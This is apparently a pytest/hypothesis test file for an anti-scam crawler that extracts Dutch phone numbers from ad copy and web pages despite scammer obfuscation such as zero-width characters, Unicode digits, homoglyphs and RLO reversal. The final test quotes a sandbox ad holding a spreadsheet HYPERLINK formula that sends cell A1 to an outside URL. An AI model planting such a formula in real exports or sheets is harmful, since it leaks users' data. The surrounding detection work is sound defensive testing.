"""Numbers a scammer's wording or characters try to hide (issue 20, items 1 and 2): the reader still reads them,
and reads no number from ordinary words."""

from __future__ import annotations

import phonenumbers
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crawler import contact, drift
from crawler.engines import get_engine
from crawler.phones import extract_phones, find_phones
from sandbox import DEFAULT_WORLD_PATH, SandboxWeb, load_world
from tests.support.sandbox_runs import default_world_text, run_world, skip_without_chromium

BOUNDED = settings(max_examples=60, deadline=None, derandomize=True)


def read(text: str, region: str = "NL") -> list[tuple[str, str]]:
    return [(p.raw, p.e164) for p in extract_phones(text, region)]


# --------------------------------------------------------------------------- 1. ad copy beside the number

AD_COPY = [
    "Bel 0900 1234 567 7 dagen per week bereikbaar",
    "Bel 0900 1234 567 24/7",
    "Bel 0900 1234 567 24 uur bereikbaar",
    "Bel 0900 1234 567 2 minuten wachttijd",
    "Bel 0900 1234 567 24/7 bereikbaar, ook in het weekend",
    "Bel nu 0900 1234 567 100% klanttevredenheid",
    "Bel 0900 1234 567 24x7 service",
    "Bel 0900 1234 567 (24 uur per dag)",
    "Bel 0900 1234 567 3 medewerkers staan klaar",
    "24/7 0900 1234 567",
    "7 dagen per week: 0900 1234 567 24 uur per dag",
]


@pytest.mark.parametrize("text", AD_COPY)
def test_a_count_beside_the_number_does_not_hide_it(text):
    assert read(text) == [("0900 1234 567", "+319001234567")]


def test_a_count_is_never_read_as_the_numbers_last_digits():
    # "0800 0227 7" is itself a valid number (0800 02277): the 7 counts the days
    assert read("Bel gratis 0800 0227 7 dagen per week") == [("0800 0227", "+318000227")]
    assert read("Bel 0800 0227 24/7") == [("0800 0227", "+318000227")]
    assert read("Bel 0800 0227 24 uur per dag") == [("0800 0227", "+318000227")]


@pytest.mark.parametrize("text", [
    "Bel 0900 1234 567 dag en nacht",  # "dag" after the number is not a count of it
    "Bel 0900 1234 567 u wordt direct geholpen",
    "Bel 020 123 45 67 of mail ons",
])
def test_words_after_the_number_that_are_no_counts_keep_it_whole(text):
    [(raw, _)] = read(text)
    assert raw in text and raw.split()[-1] in ("567", "67")


@pytest.mark.parametrize("text", [
    "24/7 bereikbaar, 7 dagen per week, 365 dagen per jaar",
    "Binnen 2 minuten geholpen, 24 uur per dag, 100% tevreden",
    "Al 25 jaar de beste service. 4,8 sterren uit 1200 reviews",
    "Bestel voor 23:59, morgen in huis. 30 dagen bedenktijd",
    "Ma-vr 8.00-20.00 uur, za 9.00-17.00 uur",
    "Nu 50% korting op 2 abonnementen, 12 maanden vast",
])
def test_counts_alone_are_no_numbers(text):
    assert read(text) == []


NUMBERS = st.sampled_from([("0900 1234 567", "+319001234567"), ("020 123 4567", "+31201234567"),
                           ("06 12 34 56 78", "+31612345678"), ("088 444 66 66", "+31884446666"),
                           ("0800-0227", "+318000227"), ("+31 20 123 4567", "+31201234567")])
COUNTS = st.sampled_from(["7 dagen per week bereikbaar", "24/7", "24 uur bereikbaar", "2 minuten wachttijd",
                          "24x7", "7/7", "24h/24", "100%", "365 dagen per jaar", "1 dag", "5 min wachttijd",
                          "24u per dag"])


@BOUNDED
@given(NUMBERS, COUNTS, st.booleans())
def test_any_count_before_or_after_any_number(number, count, before):
    raw, e164 = number
    text = f"Bel {count} {raw}" if before else f"Bel {raw} {count}"
    assert read(text) == [(raw, e164)]


def test_a_brands_contact_page_with_the_wording_is_harvested():
    html = "<h1>Klantenservice</h1><p>Bel 0800 555 1234 24/7 bereikbaar, 7 dagen per week.</p>"
    page = contact.parse(html, "https://www.vitalux.nl/contact", "NL")
    assert [p.e164 for p in page.phones] == ["+318005551234"]
    assert [p.e164 for p in contact.parse("Bel 0800 555 1234 7 dagen per week bereikbaar").phones] == [
        "+318005551234"]


def _telnova_serp(description: str, markup: str = "current") -> tuple[str, str]:
    """The sandbox's Google page for Telnova with its top ad's number only in the ad text."""
    world = load_world(DEFAULT_WORLD_PATH)
    serp = next(s for s in world.serps if s["engine"] == "google" and s["query"] == "Telnova klantenservice")
    serp["ads"][0].update(description=description, call=None, call_e164=None)
    world.engines.setdefault("google", {})["markup"] = markup
    url = "https://www.google.nl/search?q=Telnova+klantenservice&hl=nl&gl=nl"
    return SandboxWeb(world).respond("GET", url, {"user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0"}
                                     ).body.decode(), url


def test_an_ad_with_the_wording_gives_its_number_and_the_drift_alarm_sees_it():
    html, url = _telnova_serp("Bel 0900 1234 567 7 dagen per week bereikbaar")
    page = get_engine("google").parse(html, url)
    ad = next(r for r in page.results if r.kind == "ad")
    assert "+319001234567" in {p.e164 for p in ad.phones}
    html, url = _telnova_serp("Bel 0900 1234 567 7 dagen per week bereikbaar", markup="drifted")
    d = drift.check("google", html, get_engine("google").parse(html, url))
    assert "+319001234567" in d.numbers_seen and "+319001234567" in d.numbers_missed


def test_positions_point_at_the_number():
    text = "Bel 0900 1234 567 7 dagen per week"
    [pm] = find_phones(text)
    assert text[pm.start:pm.end] == "0900 1234 567"


def test_numbers_written_one_after_another_anywhere_in_the_line():
    # (the split of such runs read only a run at the very start of the text)
    assert read("Bel 020 1234567 088 444 66 66") == [("020 1234567", "+31201234567"),
                                                    ("088 444 66 66", "+31884446666")]



# --------------------------------------------------------------------------- 2. obfuscated characters

RLO, LRO, PDF, RLE = "\u202e", "\u202d", "\u202c", "\u202b"


@pytest.mark.parametrize("joiner", ["\u200d", "\u200c", "\u200b", "\u2060", "\ufeff", "\u200e", "\u00ad"],
                         ids=["zwj", "zwnj", "zwsp", "wj", "bom", "lrm", "shy"])
def test_invisible_characters_inside_the_number(joiner):
    raw = f"0{joiner}900{joiner}1234{joiner}567"
    assert read(f"Bel {raw} nu") == [(raw, "+319001234567")]  # raw as written: the evidence is the page's text


@pytest.mark.parametrize(("raw", "e164"), [
    ("\uff10\uff19\uff10\uff10 \uff11\uff12\uff13\uff14 \uff15\uff16\uff17", "+319001234567"),  # fullwidth
    ("\u0660\u0669\u0660\u0660 \u0661\u0662\u0663\u0664 \u0665\u0666\u0667", "+319001234567"),  # Arabic-Indic
    ("\u06f0\u06f6 \u06f1\u06f2 \u06f3\u06f4 \u06f5\u06f6 \u06f7\u06f8", "+31612345678"),  # Extended Arabic-Indic
    ("\u0966\u096e\u0966\u0966-\u0966\u0968\u0968\u096d", "+318000227"),  # Devanagari
    ("\U0001d7ce\U0001d7d0\U0001d7ce \U0001d7cf\U0001d7d0\U0001d7d1 \U0001d7d2\U0001d7d3\U0001d7d4\U0001d7d5",
     "+31201234567"),  # mathematical bold
    ("\uff0b\uff13\uff11 \uff12\uff10 \uff11\uff12\uff13 \uff14\uff15\uff16\uff17", "+31201234567"),  # fullwidth +
    ("0900 \uff11\uff12\uff134 567", "+319001234567"),  # mixed
])
def test_unicode_digits_are_read_and_kept_as_written(raw, e164):
    assert read(f"Bel {raw} voor hulp") == [(raw, e164)]


@pytest.mark.parametrize(("raw", "e164"), [
    ("O9OO 1234 567", "+319001234567"),
    ("09oo-1234567", "+319001234567"),
    ("O8OO-O227", "+318000227"),
    ("O6-12345678", "+31612345678"),
    ("O6 12 34 56 78", "+31612345678"),
    ("0900 l234 567", "+319001234567"),
    ("09OO-l234567", "+319001234567"),
    ("020 I23 4567", "+31201234567"),
    ("\u041e9\u041e\u041e 1234 567", "+319001234567"),  # Cyrillic O
])
def test_letters_for_digits_inside_a_digit_run(raw, e164):
    assert read(f"Bel {raw} voor hulp") == [(raw, e164)]


@pytest.mark.parametrize("text", [
    "O2 en KPN bieden 5G aan", "lOl", "IO 2024", "10l water en 5OO gram", "Kamer O12, gebouw lI",
    "Oosterhout 4 l", "Olie 1l", "Bel ons: wij zijn er voor u. Ook op zondag, 10-16 uur.",
    "Nummer 1 in klantenservice, al 25 jaar", "Versie 2.0 Ol", "COVID-19 maatregelen: 1,5 meter afstand",
    "Gratis verzending vanaf 20 euro, 30 dagen retour", "Score 9,1 uit 1.234 beoordelingen",
    "O2 0800", "IIIl 1O0",
])
def test_no_numbers_from_ordinary_words(text):
    assert read(text) == []


def test_a_brand_named_like_a_prefix_does_not_join_the_number():
    assert read("O2 0800 1234") == [("0800 1234", "+318001234")]


def test_rlo_reversed_digits_are_read_as_shown():
    text = f"Bel {RLO}765 4321 0090{PDF} voor hulp"
    [pm] = find_phones(text)
    assert pm.phone.e164 == "+319001234567"  # shown as 0900 1234 567
    assert pm.phone.raw == "765 4321 0090"  # as written, without the override (it would turn a report around)
    assert text[pm.start:pm.end] == "765 4321 0090"
    assert read(f"Bel {RLO}765 4321 0090") == [("765 4321 0090", "+319001234567")]  # unclosed: to the line's end
    assert read(f"Bel {RLO}765 4321 0090\nmeer tekst 12") == [("765 4321 0090", "+319001234567")]


def test_bidi_groups_nest_as_shown():
    # LRO inside RLO: the LRO part keeps its order, as a piece of the reversed whole
    assert read(f"{RLO}765 4321 {LRO}0900{PDF}{PDF}") == [("765 4321 0900", "+319001234567")]
    # an embedding (RLE) does not reverse digits: they are shown as written
    assert read(f"Bel {RLE}0900 1234 567{PDF}") == [("0900 1234 567", "+319001234567")]


def test_a_reversed_date_or_id_stays_blocked():
    assert read(f"Besteld op {RLO}4202-30-21{PDF}") == []  # shown as 12-03-2024
    assert read("KvK 0201234567") == [] and read("Bel 0201234567") != []
    assert read(f"KvK {RLO}7654321020{PDF}") == []  # shown as KvK 0201234567
    assert read(f"{RLO}7654321020 KvK{PDF}") == []  # the same, all of it reversed
    assert read("KvK‍ 0201234567") == []


OBFUSCATIONS = st.sampled_from(["fullwidth", "arabic", "zwj", "zwnj", "o", "rlo"])


def _obfuscate(raw: str, how: str) -> str:
    if how == "fullwidth":
        return "".join(chr(0xFF10 + int(c)) if c.isdigit() else c for c in raw)
    if how == "arabic":
        return "".join(chr(0x0660 + int(c)) if c.isdigit() else c for c in raw)
    if how in ("zwj", "zwnj"):
        return ("\u200d" if how == "zwj" else "\u200c").join(raw)
    if how == "o":
        return " ".join(g.replace("0", "O") if len(g) >= 3 else g for g in raw.split(" "))
    return RLO + raw[::-1] + PDF


@BOUNDED
@given(NUMBERS, OBFUSCATIONS, st.sampled_from(["Bel {} nu", "{}", "Klantenservice: {} (gratis)", "Bel {} 24/7"]))
def test_any_obfuscation_of_any_number_reads_the_number(number, how, frame):
    raw, e164 = number
    assert [p.e164 for p in extract_phones(frame.format(_obfuscate(raw, how)))] == [e164]


WORDS = st.sampled_from(["Bel", "ons", "gratis", "klantenservice", "O", "o", "l", "I", "Ol", "lO", "OO", "Il",
                         "dag", "en", "nacht", "bereikbaar", "\u200d", "\u202e", "\u202c", "\uff0b", "wachttijd",
                         "per", "week", "voor", "u", "KPN", "O2", "IO", "oOo"])


@BOUNDED
@given(st.lists(WORDS, max_size=30).map(" ".join))
def test_words_without_digits_never_read_as_a_number(text):
    assert read(text) == []



# --------------------------------------------------------------------------- 3. linear-time reading (issue 22)
# (Speed itself is measured in `make bench`; these count the work instead.)


@pytest.fixture
def parses(monkeypatch):
    """How often a candidate is read as a number, counted: parsed by libphonenumber, or answered by the plain
    national fast path (crawler.phones_national) instead."""
    import phonenumbers.phonenumbermatcher as matcher_module

    from crawler import phones_matcher
    from crawler.phones import forget_numbers
    from crawler.phones_national import NOT_PLAIN

    forget_numbers()
    calls = []
    real = phonenumbers.parse

    def counting(*args, **kwargs):
        calls.append(args[0])
        return real(*args, **kwargs)

    monkeypatch.setattr(phonenumbers, "parse", counting)
    monkeypatch.setattr(matcher_module, "parse", counting)
    real_plain = phones_matcher.plain_national

    def counting_plain(candidate, region):
        number = real_plain(candidate, region)
        if number is not NOT_PLAIN:
            calls.append(candidate)
        return number

    monkeypatch.setattr(phones_matcher, "plain_national", counting_plain)
    yield calls
    forget_numbers()


def test_digit_groups_too_short_for_a_number_never_reach_libphonenumber(parses):
    junk = " ".join(f"Stap {i % 10} van {i % 97}, pagina {i % 9} (1.5 of 2,5 ster, {i % 7}x)" for i in range(2000))
    assert read(junk) == [] and parses == []


def test_a_number_repeated_over_a_page_is_parsed_once_per_way_it_is_written(parses):
    page = "\n".join(f"Resultaat {i}: bel 0900 1234 567 of 020 123 4567" for i in range(500))
    assert len(find_phones(page)) == 1000
    assert len(parses) <= 10


def test_the_work_grows_with_the_page_not_faster(parses):
    def page(n: int) -> str:
        return "\n".join(f"Klantenservice: bel 0900 {1000 + i:04d} {100 + i % 900:03d} of mail ons" for i in range(n))

    read(page(400))
    small = len(parses)
    parses.clear()
    from crawler.phones import forget_numbers

    forget_numbers()
    read(page(1600))
    assert small >= 400 and len(parses) <= 4 * small * 1.1


def test_a_remembered_verdict_keeps_to_its_context():
    # the same candidate glued to letters is no number, and is not read as one after a clean sighting
    assert read("Bel 0201234567 nu") == [("0201234567", "+31201234567")]
    assert read("Code AB0201234567XY") == []
    assert read("Bel 0201234567 nu") == [("0201234567", "+31201234567")]
    assert read("Bel 0201234567 nu", "US") == []  # and in another region it is another verdict



BLOCKER_TEXT = st.lists(st.sampled_from(["NL91 ABNA 0417 1643 00", "BE 0123.456.789", "DE123456789", "12-03-2024",
                                         "2024/03/12", "08:00", "9.30 uur", "tot 17.00", "€ 12,95", "EUR", "0,80",
                                         "80 ct/min", "1234 AB", "www.x.nl/1", "https://a.b/2", "0900 1234 567",
                                         " ", "-", ".", ",", "/", ":", "€", "B", "BE", "NL", "12", "1", "ab", "\n"]),
                        max_size=25).map("".join)


@BOUNDED
@given(BLOCKER_TEXT)
def test_the_blockers_gates_never_skip_a_blocker_that_matches(text):
    from crawler.phones_context import _BLOCKERS, blocked_spans

    every = sorted(m.span() for _, rx in _BLOCKERS for m in rx.finditer(text))
    gated = blocked_spans(text)
    assert list(zip(gated.starts, gated.max_ends, strict=True)) == list(zip(
        [s for s, _ in every], [max(e for _, e in every[:i + 1]) for i in range(len(every))], strict=True))


@BOUNDED
@given(st.text(alphabet="0123456789 +-()", min_size=1, max_size=14),
       st.sampled_from(["NL", "US", "DE", "BE", "GB", "BR", "AR"]))
def test_a_candidate_called_too_short_holds_no_valid_number(candidate, region):
    from crawler.phones_candidates import too_short

    if too_short(candidate, region):
        try:
            number = phonenumbers.parse(candidate, region)
        except phonenumbers.NumberParseException:
            return
        assert not phonenumbers.is_valid_number(number)


@pytest.mark.browser
def test_a_sandbox_night_finds_the_number_in_ad_copy_and_harvests_it_from_the_contact_page(tmp_path):
    skip_without_chromium()
    text = default_world_text()
    ad = """  description = '=HYPERLINK("https://www.telnova-support.nl/?c="&A1,"Klik") Problemen met je abonnement? \
Onze medewerkers staan dag en nacht voor je klaar.'
  call = "0900 1234 567"
"""
    contact_line = '<a href="tel:+318000234567">0800 023 4567</a> (ma-za 8.00-20.00 uur)'
    assert ad in text and contact_line in text, "the default world's Telnova ad or contact page changed"
    text = text.replace(ad, '  description = "Bel 0900 1234 567 7 dagen per week bereikbaar"\n', 1)
    text = text.replace(contact_line, "0800 023 4567 24/7 bereikbaar, 7 dagen per week", 1)
    outcome, store, _ = run_world(tmp_path, text, ["Telnova"])
    assert store.harvest_status(outcome.run_id, "Telnova") == "ok"
    assert "+318000234567" in store.official_numbers("Telnova")
    assert "+319001234567" in {f["e164"] for f in outcome.scams if f["brand"] == "Telnova"}
